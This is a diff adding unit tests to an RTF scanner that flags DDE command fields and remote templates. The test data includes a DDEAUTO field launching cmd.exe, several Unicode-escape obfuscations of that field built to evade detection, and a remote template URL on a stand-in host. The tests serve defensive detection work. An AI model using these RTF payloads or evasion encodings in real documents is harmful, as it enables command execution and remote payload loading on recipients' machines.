@@ -65,6 +65,17 @@ public class RtfFileTests
     [Fact]
     public void Fields_AreRead() => Assert.Equal([new CarrierSign(SignKind.DdeCommand, @"DDEAUTO cmd.exe ""/k calc""")], Read(@"{\rtf1{\field{\*\fldinst { DDE}{AUTO cmd.exe ""/k calc""}}{\fldrslt x}}}").Signs);
 
+    [Theory]
+    [InlineData(@"\u68?\u68?\u69?\u65?UTO cmd")]
+    [InlineData(@"\u-65468?\u-65468?\u-65467\'3fAUTO cmd")]
+    [InlineData(@"{\uc0\u68\u68 EAUTO }{\uc3\u99 xyzm{\u100 a}}")]
+    [InlineData(@"\uc2\u68{}DE\u65?\'41UTO cmd")]
+    public void FallbackOfUnicode_IsNoPartOfTheText(string instruction) => Assert.Equal([new CarrierSign(SignKind.DdeCommand, "DDEAUTO cmd")], Read(@"{\rtf1{\field{\*\fldinst " + instruction + "}}}").Signs);
+
+    [Fact]
+    public void TemplateInUnicode_IsRead() => Assert.Equal([new CarrierSign(SignKind.RemoteTemplate, "http://evil.test/a.dotm")],
+        Read(@"{\rtf1{\*\template " + string.Concat("http://evil.test/a.dotm".Select(c => $@"\u{(int)c}?")) + "}}").Signs);
+
     [Fact]
     public void DeepNesting_Ends() => Read(@"{\rtf1{\*\objdata " + new string('{', 20_000) + new string('}', 30_000) + "41");
 
